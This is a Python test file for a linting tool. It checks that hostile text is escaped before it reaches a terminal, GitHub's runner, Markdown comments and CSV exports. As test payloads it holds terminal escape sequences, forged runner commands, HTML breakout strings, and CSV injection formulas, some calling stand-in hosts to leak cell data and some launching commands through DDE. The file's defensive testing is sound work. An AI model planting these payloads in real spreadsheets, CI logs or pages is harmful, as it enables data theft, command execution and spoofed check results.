"""Hostile text reaches every sink escaped (issue 26): a terminal, GitHub's runner (which executes `::`
lines), the bot's Markdown comment and step summary, and CSV files opened in a spreadsheet. Each sink has
one escaping module (`reporting/sinks/`); these tests try the attacks on the outputs, not on the modules."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys

import mistletoe
import pytest
from conftest import CLEAN_PROPOSAL
from issue_forms import render, valid_values

from proposal_lint.reporting.sinks import csv_cells, markdown, runner, terminal

ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m"  # clear the screen, set the window title (OSC), a C1 CSI
FORGED = "::error file=evil.md,line=1::forged"


def cli(*args: str, env: dict | None = None, cwd=None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "proposal_lint", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, cwd=cwd, timeout=120)


def proposal(title: str = "A title", project: str = "Demo", description: str = "d", skills: str = "s") -> str:
    return (CLEAN_PROPOSAL.replace("#### A title", f"#### {title}").replace("### Demo", f"### {project}")
            .replace("- Description: d", f"- Description: {description}")
            .replace("- Recommended Skills: s", f"- Recommended Skills: {skills}"))


# ---- terminal ----

@pytest.mark.parametrize("color", ["always", "never"])
def test_control_characters_in_titles_and_messages_reach_the_terminal_escaped(tmp_path, color):
    path = tmp_path / "p.md"
    path.write_text(proposal(title=f"T {ESCAPES}", project=f"P {ESCAPES}").replace("- LFX URL:\n", ""),
                    encoding="utf-8")
    done = cli("check", "--offline", "--isolated", "--color", color, str(path))
    assert done.returncode == 1 and "PL201" in done.stdout
    shown = re.sub(r"\x1b\[[0-9;]*m", "", done.stdout)  # the report's own colours
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    assert "\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m" in shown


def test_the_summary_table_escapes_control_characters(tmp_path):
    path = tmp_path / "p.md"
    path.write_text(proposal(title=f"T {ESCAPES}"), encoding="utf-8")
    done = cli("summary", "--offline", "--isolated", str(path))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", done.stdout) and "\\x1b[2J" in done.stdout


def test_the_terminal_sink_writes_c0_c1_and_del_visibly_and_keeps_tabs():
    assert terminal.printable("a\tb\nc\rd\x1be\x7ff\x85g\x9bh") == "a\tb\\nc\\rd\\x1be\\x7ff\\x85g\\x9bh"


# ---- GitHub's runner ----

def runner_commands(log: str) -> list[str]:
    """The lines GitHub's runner executes: `::` after leading whitespace, or `##[` anywhere."""
    return [line for line in log.split("\n") if line.lstrip().startswith("::") or "##[" in line]


def test_titles_and_file_names_never_start_a_runner_command_in_the_text_report(tmp_path):
    name = "::error::x.md"
    (tmp_path / name).write_text(
        proposal(project="::stop-commands::pwn ##[error]old style", title=FORGED)
        .replace("- LFX URL:\n", ""), encoding="utf-8")
    for extra in ((), ("--color", "always")):
        done = cli("check", "--offline", "--isolated", *extra, name, env={"GITHUB_ACTIONS": "true"}, cwd=tmp_path)
        assert done.returncode == 1, done.stderr
        commands = runner_commands(done.stdout)
        assert commands and all(line.startswith("::error file=%3A%3Aerror%3A%3Ax.md,") for line in commands), commands
        assert "\\x3a:stop-commands::pwn" in done.stdout and "#\\x23[error]" in done.stdout


def test_the_runner_sink_escapes_commands_as_the_actions_toolkit_does():
    line = runner.command("warning", "50% done\r\nnext", file="a:b,c.md", title="x%y")
    assert line == "::warning file=a%3Ab%2Cc.md,title=x%25y::50%25 done%0D%0Anext"
    assert runner.log_line("files: a\n::error::b.md\t##[warning]c") == "files: a\\n::error::b.md\t#\\x23[warning]c"
    assert runner.inert("  ::x\n\x1b[1m::y\n: z") == "  \\x3a:x\n\x1b[1m\\x3a:y\n: z"


# ---- Markdown: the bot's comment and the step summary ----

HTML_ATTACK = "\n\n</details>\n\n<h1>FAKE: all checks passed</h1>\n\n<img src=y>\n"


def rendered_html(markdown_text: str) -> str:
    """The HTML GitHub would make of the Markdown (CommonMark, raw HTML passed through)."""
    return mistletoe.markdown(markdown_text)


def test_a_multi_line_issue_value_cannot_break_out_of_its_code_span_in_the_bot_comment():
    from proposal_lint.commands.action.issue_body import check_body, comment_markdown
    from proposal_lint.reading.source import Source
    from proposal_lint.rules.context import Options

    values = valid_values()
    body = render(values, Term=values["Term"] + HTML_ATTACK, Program_Name="n" * 60 + HTML_ATTACK)
    report = check_body(Source("issue-7.md", body), [], Options(offline=True))
    assert {"PL207", "PL210"} <= {d.code for d in report.diagnostics}
    html = rendered_html(comment_markdown(report))
    assert "<h1>" not in html and "<img" not in html
    assert html.count("</details>") == html.count("<details")  # only the report's own


def test_a_file_name_with_backticks_and_html_stays_text_in_the_step_summary(tmp_path):
    name = "a`<img src=y>`b``.md"
    (tmp_path / name).write_text(proposal(title="T <h1>x</h1>").replace("- LFX URL:\n", ""), encoding="utf-8")
    report = tmp_path / "summary.md"
    done = cli("check", "--offline", "--isolated", "--report", f"markdown={report}", name, cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    html = rendered_html(report.read_text(encoding="utf-8"))
    assert "<img" not in html and "<h1>" not in html and "&lt;img src=y&gt;" in html


def test_the_summary_markdown_escapes_html_in_project_and_proposal_names(tmp_path):
    path = tmp_path / "p.md"
    path.write_text(proposal(project="<img src=y>", title="<h1>FAKE</h1>"), encoding="utf-8")
    done = cli("summary", "--offline", "--isolated", "--format", "markdown", str(path))
    html = rendered_html(done.stdout)
    assert "<img" not in html and "<h1>" not in html and "&lt;img src=y&gt;" in html


def test_the_markdown_sink_fences_code_longer_than_any_backtick_run_and_keeps_it_on_one_line():
    assert markdown.code("a``b") == "```a``b```"
    assert markdown.code("`x") == "`` `x ``"
    assert markdown.code("a\n\n<h1>b") == "`a  <h1>b`"
    assert markdown.code("  - Name") == "`  - Name`"
    assert rendered_html(markdown.code("``` <b>x</b> `")).count("<b>") == 0


# ---- CSV ----

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=IMPORTXML(CONCAT(\"http://e.x/\",A1),\"//a\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.mark.parametrize("shape", ["csv", "lfx-csv"])
def test_no_exported_cell_starts_a_formula_from_markdown_or_an_issue_body(tmp_path, shape):
    equals, importxml, plus, minus, at = FORMULAS
    (tmp_path / "ideas.md").write_text(proposal(project=plus, title=equals, description=minus, skills=at)
                                       .replace("Jane Doe", importxml.replace(",", ";")), encoding="utf-8")
    values = valid_values()
    (tmp_path / "issue-12.md").write_text(render(values, Program_Name=equals, Technologies=plus,
                                                 Program_Description=minus), encoding="utf-8")
    done = cli("export", "--isolated", "--include-invalid", "--to", shape, "ideas.md", "issue-12.md", cwd=tmp_path)
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert len(rows) == 3, done.stdout + done.stderr
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    mentor = importxml.replace(",", ";")
    assert (f"'{mentor}" in cells) if shape == "lfx-csv" else {f"'{equals}", f"'{minus}", f"'{plus}"} <= set(cells)


def test_the_csv_sink_prefixes_formula_starts_and_leaves_numbers_alone():
    assert [csv_cells.cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", 12, -3)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", 12, -3]
